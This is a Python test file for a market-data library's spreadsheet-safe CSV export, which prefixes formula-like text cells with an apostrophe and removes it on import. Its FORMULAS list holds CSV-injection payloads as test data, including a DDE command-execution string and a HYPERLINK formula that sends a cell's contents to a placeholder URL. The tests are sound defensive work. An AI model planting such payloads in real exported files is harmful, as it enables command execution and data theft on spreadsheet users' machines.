"""In: texts that a spreadsheet would compute. Out: CSV in which none is a formula, and the same texts back."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

import klinepred as kp
from klinepred.bars.ingest import ingest
from klinepred.cli.follow import open_end, sink_to
from klinepred.spreadsheet import guarded, unguarded
from tests.bars.made import NOW, from_files, walk
from tests.conftest import Typed

FORMULAS = ["=1+1", "+1", "-1+1", "@SUM(A1)", '=HYPERLINK("http://x?"&A1)', "=cmd|' /C calc'!A0", "\t=1", "\r=1", "＝1"]
PLAIN = ["AAPL", "EURUSD=X", "^GSPC", "BRK-B", "BTC/USDT", "'quoted", "it's", "", "1-2", " =1"]
SYMBOLS = ("=CMD()", "@ES#", "+AA", "-BB", "'=CC", "EURUSD=X", "^GSPC")


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_no_text_cell_begins_as_a_formula_and_numbers_stay_numbers() -> None:
    frame = pl.DataFrame({"symbol": FORMULAS, "return": [-0.5] * len(FORMULAS), "=x": [-1] * len(FORMULAS)})
    rows = cells(guarded(frame).write_csv())
    assert rows[0] == ["symbol", "return", "'=x"]
    assert [row[0] for row in rows[1:]] == [f"'{text}" for text in FORMULAS]
    assert {row[1] for row in rows[1:]} == {"-0.5"}
    assert {row[2] for row in rows[1:]} == {"-1"}


def test_other_texts_and_nulls_are_letter_for_letter() -> None:
    frame = pl.DataFrame({"a": [*PLAIN, None], "b": pl.Series([*PLAIN, None], dtype=pl.Categorical)})
    assert guarded(frame).equals(frame)


@given(st.lists(st.one_of(st.none(), st.text(alphabet="=+-@'\t\rA1＝", max_size=6), st.text(max_size=6))))
def test_it_comes_back_letter_for_letter(texts: list[str | None]) -> None:
    texts = [None if text is None else text.replace("\ud800", "") for text in texts]
    column = pl.Series("a", texts, dtype=pl.String)
    out = guarded(column.to_frame())["a"]
    assert not any(text and text[0] in "=+-@\t\r\n＝＋－＠" for text in out)
    assert unguarded(out).to_list() == texts


def test_bars_of_symbols_like_formulas_go_out_safe_and_come_back_the_same(tmp_path: Path, typed: Typed) -> None:
    frame = walk(list(SYMBOLS), days=1)
    frame.write_parquet(tmp_path / "x.parquet")
    one, two = kp.Workspace(tmp_path / "one"), kp.Workspace(tmp_path / "two")
    ingest(from_files(tmp_path / "x.parquet"), one, now=NOW)
    words = ("-w", str(one.root))
    assert typed("bars", "export", *words, "-o", str(tmp_path / "out.csv"))[0] == 0
    shown = typed("bars", "show", *words, "--format", "csv")[1]
    for text in ((tmp_path / "out.csv").read_text(), shown):
        names = {row[0] for row in cells(text)[1:]}
        assert names == {"'=CMD()", "'@ES#", "'+AA", "'-BB", "''=CC", "EURUSD=X", "^GSPC"}
    ingest(from_files(tmp_path / "out.csv"), two, now=NOW)
    assert kp.scan_bars(two).collect().equals(kp.scan_bars(one).collect())
    assert "'" not in typed("bars", "list", *words, "--format", "json")[1].replace("'=CC", "")


def test_a_followed_file_is_taken_up_again_where_it_ended(tmp_path: Path) -> None:
    stamp = datetime(2026, 6, 1, 14, tzinfo=UTC)
    rows = pl.DataFrame({"symbol": ["@ES", "A"], "bar_ts": [stamp] * 2, "asof": [stamp] * 2, "model": ["-m"] * 2})
    path = tmp_path / "live.csv"
    sink_to(path, form="csv", short=lambda frame: frame, prices=[])(rows, rows)
    assert path.read_text().splitlines()[1].startswith("'@ES,")
    assert open_end(path, form="csv", columns=rows.columns, model="-m") == {"@ES": stamp, "A": stamp}


@pytest.mark.parametrize("text", ["=1", "'=1", "''=1"])
def test_an_apostrophe_more_goes_on_and_one_comes_off(text: str) -> None:
    out = guarded(pl.DataFrame({"a": [text]}))["a"]
    assert out.to_list() == [f"'{text}"]
    assert unguarded(out).to_list() == [text]
